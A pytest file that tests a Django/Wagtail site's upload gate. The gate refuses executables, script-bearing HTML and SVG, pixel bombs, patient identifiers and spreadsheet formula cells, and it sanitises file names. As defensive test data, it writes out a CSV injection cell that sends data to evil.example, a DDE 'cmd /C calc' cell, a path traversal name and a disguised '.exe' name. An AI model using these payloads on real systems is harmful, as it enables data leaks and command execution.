"""One gate for file bytes (resources/files/): every route that creates or replaces a document or
an image refuses what the gate refuses, says why in the form, creates nothing and leaves no file
behind; file names lose control characters; formula cells are findings; a file's text is extracted
once, kept by SHA-256, and shared by the upload check, the screening step and search indexing.
"""

import hashlib
import html
import io
import json
import os
import struct
import subprocess
import sys
import zipfile
import zlib

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.images import ImageFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, UploadedFile

from resources.demo.files import make_docx, make_pdf
from resources.files import check_image, check_upload, clean_filename, extract, text_of
from resources.indexing.documents import file_text
from resources.models import FileText
from resources.review.sharing import pending_files

from .builders import make_tool
from .conftest import login
from .test_extract import make_bomb
from .workflow import CLEAN_PDF_LINES, MRN_PDF_LINES, TITLE, share_data

Document = get_document_model()
WagtailImage = get_image_model()

EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
WEB_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script><p>Report</p></body></html>"

# (file name, bytes, what the refusal says)
BAD_DOCUMENTS = {
    "executable": ("handout.docx", EXECUTABLE, "Windows executable"),
    "web page": ("report.pdf", WEB_PAGE, "HTML"),
    "patient details": ("huddle.pdf", make_pdf(TITLE, MRN_PDF_LINES), "MRN: ******77"),
}


def media_files():
    """Every file under MEDIA_ROOT, to catch orphans a refused upload leaves behind."""
    found = set()
    for directory, _dirs, names in os.walk(settings.MEDIA_ROOT):
        found.update(os.path.join(directory, name) for name in names)
    return found


def root_collection():
    return Collection.get_first_root_node()


def upload(name, data):
    return SimpleUploadedFile(name, data)


def png(width=40, height=30):
    out = io.BytesIO()
    Image.new("RGB", (width, height), (20, 120, 90)).save(out, "PNG")
    return out.getvalue()


def png_header_only(width, height):
    """A PNG that declares ``width`` x ``height`` pixels: a decompression bomb's opening."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(header)) + chunk + struct.pack(">I", zlib.crc32(chunk))


def pixel_bomb(width, height):
    """A small, well-formed PNG that declares ``width`` x ``height`` pixels."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    data = zlib.compress(b"\x00" * (width // 8 + 1) * 16)

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def csv_bytes(rows):
    return "\r\n".join(",".join(row) for row in rows).encode() + b"\r\n"


def grace_document():
    """A clean document grace.lin uploaded, which she may edit."""
    from django.contrib.auth import get_user_model

    document = Document(title="Huddle sheet", collection=root_collection())
    document.uploaded_by_user = get_user_model().objects.get(username="grace.lin")
    document.file.save("huddle-sheet.pdf", ContentFile(make_pdf(TITLE, CLEAN_PDF_LINES)), save=False)
    document.save()
    return document


def grace_image():
    from django.contrib.auth import get_user_model

    return WagtailImage.objects.create(
        title="Chart",
        collection=root_collection(),
        uploaded_by_user=get_user_model().objects.get(username="grace.lin"),
        file=ImageFile(io.BytesIO(png()), name="chart.png"),
    )


# -- documents: every admin route --------------------------------------------------------------------


def post_upload(client, app, kind, route, name, data, existing):
    """Upload through one of Wagtail's routes for ``kind`` ("document" or "image", served by the
    ``app`` "wagtaildocs" or "wagtailimages"); ``existing()`` is the record the edit route replaces
    the file of. Returns (what the person sees, the edited record or None)."""
    file = upload(name, data)
    collection = root_collection().pk
    if route == "add":
        response = client.post(reverse(f"{app}:add"), {"title": "Upload", "file": file, "collection": collection})
        return html.unescape(response.content.decode()), None
    if route == "multiple":
        response = client.post(reverse(f"{app}:add_multiple"), {"files[]": file, "collection": collection})
        answer = json.loads(response.content)
        return (answer.get("error_message") or "uploaded"), None
    if route == "chooser":
        prefix = f"{kind}-chooser-upload"
        response = client.post(
            reverse(f"{app}_chooser:create"),
            {f"{prefix}-title": "Upload", f"{prefix}-file": file, f"{prefix}-collection": collection},
        )
        answer = json.loads(response.content)
        return html.unescape(answer.get("htmlFragment") or answer["step"]), None
    record = existing()
    response = client.post(
        reverse(f"{app}:edit", args=[record.pk]),
        {"title": record.title, "file": file, "collection": collection, "tags": ""},
    )
    return html.unescape(response.content.decode()), record


def post_document(client, route, name, data):
    return post_upload(client, "wagtaildocs", "document", route, name, data, grace_document)


DOCUMENT_ROUTES = ["add", "multiple", "chooser", "edit"]


@pytest.mark.django_db
@pytest.mark.parametrize("route", DOCUMENT_ROUTES)
@pytest.mark.parametrize("bad", list(BAD_DOCUMENTS))
def test_every_document_route_refuses_what_the_gate_refuses(client, route, bad):
    login(client, "grace.lin")
    name, data, says = BAD_DOCUMENTS[bad]
    if route == "edit":
        before_document = grace_document()  # made before the snapshot, like the edited one
        before_document.delete()
    documents, uploads = Document.objects.count(), UploadedFile.objects.count()
    files = media_files()
    seen, edited = post_document(client, route, name, data)
    assert says in seen
    if edited is not None:
        kept = Document.objects.get(pk=edited.pk)
        assert kept.file.name == edited.file.name and kept.file.storage.exists(kept.file.name)
        files |= {kept.file.path}
        documents += 1
    assert Document.objects.count() == documents
    assert UploadedFile.objects.count() == uploads
    assert media_files() == files, "a refused upload left a file in MEDIA_ROOT"
    assert not any("48213377" in stored.text for stored in FileText.objects.all())


@pytest.mark.django_db
def test_patient_details_refusal_lists_every_finding(client):
    login(client, "grace.lin")
    seen, _ = post_document(client, "add", "huddle.pdf", make_pdf(TITLE, MRN_PDF_LINES))
    assert "Page 1 of huddle.pdf seems to contain a medical record or hospital number" in seen
    assert "MRN: ******77). Delete it, or replace it with an obviously made-up value" in seen
    assert "Page 1 of huddle.pdf seems to contain a date of birth (DOB: **/**/2015)" in seen
    assert "File extension" not in seen
    assert "48213377" not in seen and "Jamie Rivers" not in seen


@pytest.mark.django_db
def test_a_clean_document_is_still_accepted_on_every_route(client):
    login(client, "grace.lin")
    for route in ("add", "multiple", "chooser"):
        before = Document.objects.count()
        post_document(client, route, f"sheet-{route}.pdf", make_pdf(TITLE, CLEAN_PDF_LINES))
        assert Document.objects.count() == before + 1, route
    _seen, document = post_document(client, "edit", "new-sheet.pdf", make_pdf(TITLE, ["A newer huddle sheet."]))
    document.refresh_from_db()
    assert document.file.name.endswith(".pdf") and "new-sheet" in document.file.name


@pytest.mark.django_db
def test_multiple_upload_with_a_bad_collection_stores_no_unchecked_upload(client):
    """Wagtail keeps an UploadedFile when a field other than the file fails; the file must have
    passed the gate first, or no UploadedFile is kept at all."""
    login(client, "grace.lin")
    uploads = UploadedFile.objects.count()
    response = client.post(
        reverse("wagtaildocs:add_multiple"), {"files[]": upload("handout.docx", EXECUTABLE), "collection": 999999}
    )
    assert json.loads(response.content)["success"] is False
    assert UploadedFile.objects.count() == uploads


# -- images --------------------------------------------------------------------------------------------


def post_image(client, route, name, data):
    return post_upload(client, "wagtailimages", "image", route, name, data, grace_image)


BAD_IMAGES = {
    # Willow reads only the header: Wagtail keeps a damaged image, whose renditions then fail.
    "damaged": ("chart.png", png(400, 300)[:200], "could not be read"),
    # ... and answers a header with nothing after it with a server error.
    "incomplete": ("chart.png", png_header_only(400, 300), "could not be read"),
    "svg": ("chart.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "SVG"),
    "too many pixels": ("chart.png", pixel_bomb(20_000, 20_000), "pixels"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("route", DOCUMENT_ROUTES)
@pytest.mark.parametrize("bad", list(BAD_IMAGES))
def test_every_image_route_refuses_what_the_gate_refuses(client, route, bad):
    login(client, "grace.lin")
    name, data, says = BAD_IMAGES[bad]
    if route == "edit":
        grace_image().delete()
    images, uploads = WagtailImage.objects.count(), UploadedFile.objects.count()
    files = media_files()
    seen, edited = post_image(client, route, name, data)
    assert says in seen
    if edited is not None:
        kept = WagtailImage.objects.get(pk=edited.pk)
        assert kept.file.name == edited.file.name
        files |= {kept.file.path} | {os.path.join(settings.MEDIA_ROOT, r.file.name) for r in kept.renditions.all()}
        images += 1
    assert WagtailImage.objects.count() == images
    assert UploadedFile.objects.count() == uploads
    assert media_files() == files


def test_image_check_sniffs_content_and_refuses_svg():
    assert check_image(io.BytesIO(png()), "chart.png") == []
    assert [f.kind for f in check_image(io.BytesIO(png()), "chart.jpg")] == ["file-type"]
    svg = check_image(io.BytesIO(b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"), "logo.svg")
    assert [f.kind for f in svg] == ["file-type"] and "SVG" in svg[0].message


# -- file names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, clean",
    [
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("re\u202eport.pdf", "report.pdf"),
        ("notes\u200b\u2066.pdf", "notes.pdf"),
        ("tab\tand\nnewline.csv", "tabandnewline.csv"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\report.pdf", "report.pdf"),
        (".htaccess", "htaccess"),
        ("...hidden.pdf", "hidden.pdf"),
        ("  spaced  name .pdf ", "spaced name .pdf"),
        ("\u202e", "file"),
    ],
)
def test_file_names_lose_control_characters_separators_and_leading_dots(name, clean):
    assert clean_filename(name) == clean


@pytest.mark.django_db
def test_admin_upload_stores_a_clean_name_and_title(client):
    login(client, "grace.lin")
    client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": upload("hud\u202edle.pdf", make_pdf(TITLE, CLEAN_PDF_LINES)), "collection": root_collection().pk},
    )
    document = Document.objects.order_by("-pk").first()
    assert "\u202e" not in document.title and "\u202e" not in document.filename
    assert document.filename.startswith("huddle")
    seen, _ = post_document(client, "add", "invoice\u202efdp.exe", make_pdf(TITLE, CLEAN_PDF_LINES))
    assert "invoicefdp.exe is named as a .exe file" in seen


@pytest.mark.django_db
def test_shared_file_is_stored_and_downloaded_under_a_clean_name(client):
    login(client, "grace.lin")
    file = upload("hud\u202edle.pdf", make_pdf(TITLE, CLEAN_PDF_LINES))
    response = client.post("/share/", {**share_data(action="draft"), "files": file})
    assert response.status_code == 302, response.content[:300]
    from resources.models import ToolPage

    page = ToolPage.objects.filter(title=TITLE).order_by("-pk").first()
    (release_file,) = pending_files(page)
    assert release_file.filename == "huddle.pdf"
    assert "\u202e" not in release_file.document.title


# -- formula cells -------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_csv_formula_cells_are_findings_with_their_cell():
    rows = [
        ["Site", "Count", "Change"],
        ["Riverside", "12", "-3"],
        ["Hillside", "+4", "-"],
        ["Lakeside", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1)"],
        ["Valley", "\tcmd", "-2.5%"],
    ]
    findings = check_upload(io.BytesIO(csv_bytes(rows)), "sites.csv", screened_later=True)
    assert [(f.kind, f.location) for f in findings] == [
        ("formula-cell", "row 4"),
        ("formula-cell", "row 4"),
        ("formula-cell", "row 5"),
    ]
    assert findings[0].message == (
        "Cell B4 of sites.csv starts with '=' and would run as a formula in a spreadsheet; remove the leading "
        "character or prefix it with an apostrophe."
    )
    assert "Cell C4 of sites.csv starts with '@'" in findings[1].message
    assert "Cell B5 of sites.csv starts with a tab" in findings[2].message


@pytest.mark.django_db
def test_xlsx_text_cells_that_look_like_formulas_are_findings():
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Measures"
    sheet.append(["Measure", "Value"])
    sheet.append(["Median wait", -4])
    cell = sheet.cell(row=3, column=2)
    cell.value = "=cmd|' /C calc'!A0"
    cell.data_type = "s"  # stored as text, as a CSV converted to XLSX would be
    out = io.BytesIO()
    workbook.save(out)
    findings = check_upload(io.BytesIO(out.getvalue()), "measures.xlsx", screened_later=False)
    assert [(f.kind, f.location) for f in findings] == [("formula-cell", "sheet Measures row 3")]
    assert findings[0].message.startswith("Cell B3 on sheet Measures of measures.xlsx starts with '='")


@pytest.mark.django_db
def test_formula_cells_are_refused_in_the_admin_and_on_share(client):
    login(client, "grace.lin")
    data = csv_bytes([["Site", "Count"], ["Riverside", "=1+1"]])
    seen, _ = post_document(client, "add", "counts.csv", data)
    assert "Cell B2 of counts.csv starts with '='" in seen
    response = client.post("/share/", {**share_data(), "files": upload("counts.csv", data)})
    assert response.status_code == 400
    assert "Cell B2 of counts.csv starts with" in html.unescape(response.content.decode())


# -- text extracted once, kept by SHA-256 ------------------------------------------------------------------


@pytest.fixture
def worker_runs(monkeypatch):
    """How many times the parsing process runs (the real one, counted)."""
    runs = []
    real = extract._run_worker

    def counted(*args, **kwargs):
        runs.append(args[2])
        return real(*args, **kwargs)

    monkeypatch.setattr(extract, "_run_worker", counted)
    return runs


@pytest.mark.django_db
def test_a_shared_pdf_is_parsed_once_for_upload_screening_and_indexing(client, worker_runs):
    login(client, "grace.lin")
    file = upload("sheet.pdf", make_pdf(TITLE, ["A huddle sheet with one distinctive word: quillwort."]))
    response = client.post("/share/", {**share_data(title="Quillwort sheet"), "files": file})
    assert response.status_code == 302, response.content[:300]
    from resources.models import ToolPage

    page = ToolPage.objects.get(title="Quillwort sheet")
    assert page.current_workflow_state is not None  # submitted: the screening step has read the file
    (release_file,) = pending_files(page)
    assert "quillwort" in file_text(release_file.release)
    assert len(worker_runs) == 1
    with release_file.document.file.open("rb") as handle:
        digest = hashlib.sha256(handle.read()).hexdigest()
    assert "quillwort" in FileText.objects.get(sha256=digest).text


def zip_of(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.django_db
def test_a_file_screened_later_is_judged_by_what_it_is_without_being_parsed(worker_runs):
    """/share/'s gate: no PDF or Office file is parsed in the request (the screening step reads it in
    the background worker), yet what a file is, its limits and its name are refused at once."""
    mrn_pdf = make_pdf(TITLE, MRN_PDF_LINES)
    docx = make_docx(TITLE, ["A plain handout."])
    assert check_upload(io.BytesIO(mrn_pdf), "huddle.pdf", screened_later=True) == []
    assert check_upload(io.BytesIO(docx), "handout.docx", screened_later=True) == []
    assert worker_runs == []

    def refused(name, data):
        findings = check_upload(io.BytesIO(data), name, screened_later=True)
        return [(finding.kind, finding.message) for finding in findings]

    assert refused("report.pdf", EXECUTABLE)[0][0] == "file-type"
    assert "HTML" in refused("report.pdf", WEB_PAGE)[0][1]
    assert "a ZIP archive" in refused("handout.docx", zip_of({"notes.txt": "hello"}))[0][1]
    ((kind, message),) = refused("handout.xlsx", docx)
    assert kind == "file-type" and "Word document" in message
    assert refused("bomb.xlsx", make_bomb(210))[0][0] == "archive-size"
    formula = csv_bytes([["Site", "Count"], ["A", "=1+1"]])
    assert [kind for kind, _ in refused("counts.csv", formula)] == ["formula-cell"]
    assert worker_runs == []

    # Read through, as the screening step and the document admin read it, the same PDF is refused.
    kinds = {finding.kind for finding in check_upload(io.BytesIO(mrn_pdf), "huddle.pdf", screened_later=False)}
    assert "medical-record-number" in kinds and len(worker_runs) == 1


@pytest.mark.django_db
def test_text_is_kept_by_content_and_refusals_are_worded_for_each_name(worker_runs):
    data = make_pdf(TITLE, CLEAN_PDF_LINES)
    first = text_of(io.BytesIO(data), "one.pdf")
    second = text_of(ContentFile(data, name="two.pdf"))
    assert first.parts == second.parts and "Child A" in first.text
    assert len(worker_runs) == 1
    assert FileText.objects.filter(sha256=hashlib.sha256(data).hexdigest()).count() == 1
    with pytest.raises(extract.UnsupportedFile, match="^a.docx is not a Word document"):
        text_of(io.BytesIO(EXECUTABLE), "a.docx")
    with pytest.raises(extract.UnsupportedFile, match="^b.docx is not a Word document"):
        text_of(io.BytesIO(EXECUTABLE), "b.docx")


@pytest.mark.django_db
def test_a_refused_upload_leaves_no_text_behind():
    data = make_pdf(TITLE, MRN_PDF_LINES)
    findings = check_upload(io.BytesIO(data), "list.pdf", screened_later=False)
    assert {f.kind for f in findings} >= {"medical-record-number", "date-of-birth"}
    assert not FileText.objects.filter(sha256=hashlib.sha256(data).hexdigest()).exists()
    assert not any("48213377" in stored.text for stored in FileText.objects.all())


@pytest.mark.django_db
def test_a_file_a_live_page_links_is_replaced_only_by_someone_who_may_publish_the_page(client):
    """Swapping the file of a published page's document would change that page without review."""
    document = grace_document()
    page = make_tool("Huddle card with its sheet", owner="grace.lin")
    page.body = [("document", {"document": document, "title": ""})]
    page.save_revision(user=page.owner).publish()
    original = document.file.name

    newer = make_pdf(TITLE, ["A newer huddle sheet."])

    login(client, "grace.lin")
    seen, edited = post_upload(client, "wagtaildocs", "document", "edit", "new-sheet.pdf", newer, lambda: document)
    assert "This file is published on “Huddle card with its sheet”" in seen
    edited.refresh_from_db()
    assert edited.file.name == original and edited.file.storage.exists(original)

    login(client, "marcus.webb")
    _seen, edited = post_upload(client, "wagtaildocs", "document", "edit", "new-sheet.pdf", newer, lambda: document)
    edited.refresh_from_db()
    assert edited.file.name != original


def test_the_file_checks_and_screening_import_in_either_order():
    """resources.files' checks report screening's ``Finding`` and screening's ``screen_file`` builds on
    the checks: a fresh process must be able to start from either side (the document form, loaded
    from settings, starts from resources.files)."""
    for first in ("resources.files.checks", "resources.files.gate", "resources.screening.files"):
        code = f"import {first}; from resources.screening import screen_file; from resources.files import TIMED_OUT"
        run = subprocess.run(
            [sys.executable, "-c", code],
            capture_output=True,
            text=True,
            cwd=settings.BASE_DIR,
            env={**os.environ, "DJANGO_SETTINGS_MODULE": "commons_site.settings.test"},
        )
        assert run.returncode == 0, run.stderr
